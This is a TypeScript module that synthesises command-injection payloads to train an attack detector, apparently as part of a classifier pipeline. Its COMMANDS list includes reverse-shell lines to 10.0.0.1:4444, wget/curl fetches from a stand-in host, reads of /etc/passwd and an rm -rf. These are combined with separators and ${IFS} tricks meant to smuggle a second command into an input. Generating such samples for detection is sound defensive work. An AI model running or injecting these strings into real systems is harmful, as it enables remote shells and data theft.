// Training-only synthesis for command injection, the smallest attack class (~500 public
// lines against ~9k SQL injection). Composing separators × commands × arguments × leading
// values teaches the shape "end the previous command, start another" rather than the exact
// strings in the lists. Only ever added to the training split: the holdout stays public data.
import { seededRng } from '../../rng';
import type { TrainingSample } from './train';

const SEPARATORS = [';', '|', '||', '&', '&&', '`', '$(', '%0a', '\n', ';;', '|&', '%26%26', '%7c', '%3b'];
/** Whole command lines (their command words are vocabulary names: vocabulary.test.ts). */
export const COMMANDS = [
  'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'ls -l /tmp', 'pwd', 'ifconfig', 'ipconfig /all', 'netstat -an',
  'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'sleep 5', 'sleep 10', 'wget http://example.test/x.sh', 'curl http://example.test/x',
  'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo hello', "echo '<b>pwned</b>'",
  "echo '<script>alert(1)</script>'", 'echo $((7*7))', 'type C:\\windows\\win.ini', 'dir C:\\', 'net user', 'systeminfo',
  'tasklist', 'whoami /priv', '/bin/ls', '/usr/bin/id', 'cat /etc/hosts', 'ps aux', 'hostname', 'nslookup example.test',
  'python -c "import os"', 'perl -e "print 1"', 'php -r "phpinfo();"', 'powershell -c Get-Process', 'rm -rf /tmp/x', 'touch /tmp/x',
];
const PREFIXES = ['', '', '', '127.0.0.1', 'example.com', 'file.txt', '1', 'test', "'", '"', 'a'];
const SUFFIXES = ['', '', '', ';', '|', '#', ' #', '`', ')', "'", '"', ' &', '%00'];

export function synthesizeCommandInjection(count: number, seed: number): TrainingSample[] {
  const rng = seededRng(`augment-cmdi:${seed}`);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
  const out = new Set<string>();
  for (let guard = 0; out.size < count && guard < count * 10; guard++) {
    const sep = pick(SEPARATORS);
    const space = pick(['', ' ', ' ', '%20', '${IFS}', '\t']);
    const close = sep === '`' ? '`' : sep === '$(' ? ')' : pick(SUFFIXES);
    out.add(`${pick(PREFIXES)}${sep}${space}${pick(COMMANDS).replace(/ /g, space === '${IFS}' ? '${IFS}' : ' ')}${close}`);
  }
  return [...out].map((payload) => ({ payload, label: 'command_injection' as const }));
}
